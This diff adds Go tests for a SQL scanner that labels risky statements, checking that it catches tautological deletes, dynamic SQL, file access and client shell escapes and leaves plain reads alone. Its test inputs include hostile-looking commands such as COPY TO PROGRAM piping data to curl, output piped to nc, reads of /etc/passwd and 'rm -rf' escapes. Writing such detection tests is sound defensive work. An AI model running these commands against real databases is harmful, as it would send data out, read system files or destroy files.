@@ -1,0 +1,86 @@
+package sqlscan
+
+import "testing"
+
+// TestWhatSQLDoes checks the kinds that say what a statement does rather
+// than what verb it starts with: tautological WHEREs, dynamic SQL,
+// programs, files and client escapes.
+func TestWhatSQLDoes(t *testing.T) {
+	cases := []struct {
+		want      string
+		spellings []string
+	}{
+		{DeleteNoWhere, []string{
+			"DELETE FROM t WHERE 1=1", "delete from t where true", "DELETE FROM t WHERE 'x' = 'x'",
+			"DELETE FROM t WHERE id = 4 OR 2 > 1", "delete from t where (1 = 1)", "DELETE FROM t WHERE NOT false",
+			"DELETE FROM t WHERE 1", "DELETE FROM t WHERE id = id", "DELETE FROM t WHERE 1 <> 0 RETURNING *",
+			"DELETE FROM t WHERE 1=1 AND 2=2",
+		}},
+		{UpdateNoWhere, []string{"UPDATE t SET a=1 WHERE 1=1", "update t set a = 0 where TRUE or id = 3"}},
+		{Dynamic, []string{
+			"EXECUTE stmt", "execute immediate 'x'", "PREPARE s FROM @q", "EXEC('DROP TABLE t')",
+			"DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$", "\\i /tmp/x.sql", ".read cleanup.sql", "source dump.sql",
+		}},
+		{Program, []string{
+			"COPY t TO PROGRAM 'curl -d @- https://example.org'", "copy t from program 'id'", "\\copy t to program 'gzip > x'",
+			"SELECT load_extension('/tmp/x.so')", ".load ./ext", "LOAD '/tmp/x.so'",
+		}},
+		{FileAccess, []string{
+			"SELECT readfile('/etc/passwd')", "select writefile('x.sh', 'id')", "SELECT LOAD_FILE('/etc/hosts')",
+			"SELECT * FROM t INTO OUTFILE '/tmp/t.csv'", "SELECT pg_read_file('/etc/passwd')", "COPY t TO '/tmp/t.csv'",
+			"COPY t FROM '/tmp/in.csv'", "ATTACH DATABASE '/tmp/x.db' AS x", "VACUUM INTO '/tmp/copy.db'",
+			"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", "\\o /tmp/out.txt", ".output /tmp/o.txt", ".restore main old.db",
+		}},
+		{ClientShell, []string{
+			"\\! rm -rf /tmp/x", ".shell id", ".system ls", "system ls -la", "\\o | mail x@example.org",
+			".once |sh", ".output '|nc example.org 9'", "\\g | sh", "pager less; ", ".import '|cat /etc/passwd' t",
+		}},
+		{DeleteNoWhere, []string{"DO $$ BEGIN DELETE FROM t; END $$", "CREATE FUNCTION f() RETURNS void AS $f$ DELETE FROM t $f$ LANGUAGE sql"}},
+	}
+	for _, c := range cases {
+		for _, sql := range c.spellings {
+			if r := Scan(sql); !r.Has(c.want) {
+				t.Errorf("%q: got %v, want %s", sql, r.Kinds(), c.want)
+			}
+		}
+	}
+	for _, sql := range []string{
+		"DELETE FROM t WHERE id = 1", "DELETE FROM t WHERE 1=1 AND id = 3", "UPDATE t SET a = 1 WHERE a = 2",
+		"DELETE FROM t WHERE x > 1", "SELECT 1 WHERE 1=1", "COPY t TO STDOUT", "\\copy t to stdout",
+		"\\d users", "\\dt", ".tables", ".schema", "SELECT * FROM t", "PREPARE s AS SELECT 1",
+		"SELECT 'readfile(x)'", "DO $$ BEGIN RAISE NOTICE 'hi'; END $$", "\\x", ".headers on", ".mode csv",
+	} {
+		r := Scan(sql)
+		for _, k := range []string{DeleteNoWhere, UpdateNoWhere, Dynamic, Program, FileAccess, ClientShell} {
+			if r.Has(k) {
+				t.Errorf("%q: got %v, want none of the risky kinds", sql, r.Kinds())
+			}
+		}
+	}
+}
+
+// TestReadOnlyBatches checks that a batch of reads is not a stacked write,
+// and that one write among them is.
+func TestReadOnlyBatches(t *testing.T) {
+	for _, sql := range []string{
+		"USE app; SHOW TABLES", "SELECT 1; SELECT 2;", "\\d\nSELECT count(*) FROM t;", "BEGIN; SELECT 1; COMMIT",
+		"EXPLAIN SELECT 1; SELECT 2", ".tables\n.schema t\nSELECT 1;", "PRAGMA table_info(t); SELECT 1",
+		"SET search_path = app; SELECT 1",
+	} {
+		if r := Scan(sql); r.Has(StackedWrite) {
+			t.Errorf("%q: a batch of reads: %v", sql, r.Kinds())
+		}
+	}
+	for _, sql := range []string{
+		"SELECT 1; INSERT INTO t VALUES (1)", "USE app; DELETE FROM t WHERE id = 1", "SELECT 1; EXPLAIN ANALYZE DELETE FROM t",
+		"SELECT 1; PRAGMA writable_schema = 1", "SHOW TABLES; CREATE TABLE x (a int)", "SELECT 1 INTO x; SELECT 2",
+	} {
+		if r := Scan(sql); !r.Has(StackedWrite) {
+			t.Errorf("%q: a batch with a write: %v", sql, r.Kinds())
+		}
+	}
+	r := Scan("\\! rm -rf /tmp/x\nSELECT 1;")
+	if len(r.Statements) < 2 || r.Statements[0].Shell != "rm -rf /tmp/x" {
+		t.Errorf("the client escape's shell command: %+v", r.Statements)
+	}
+}
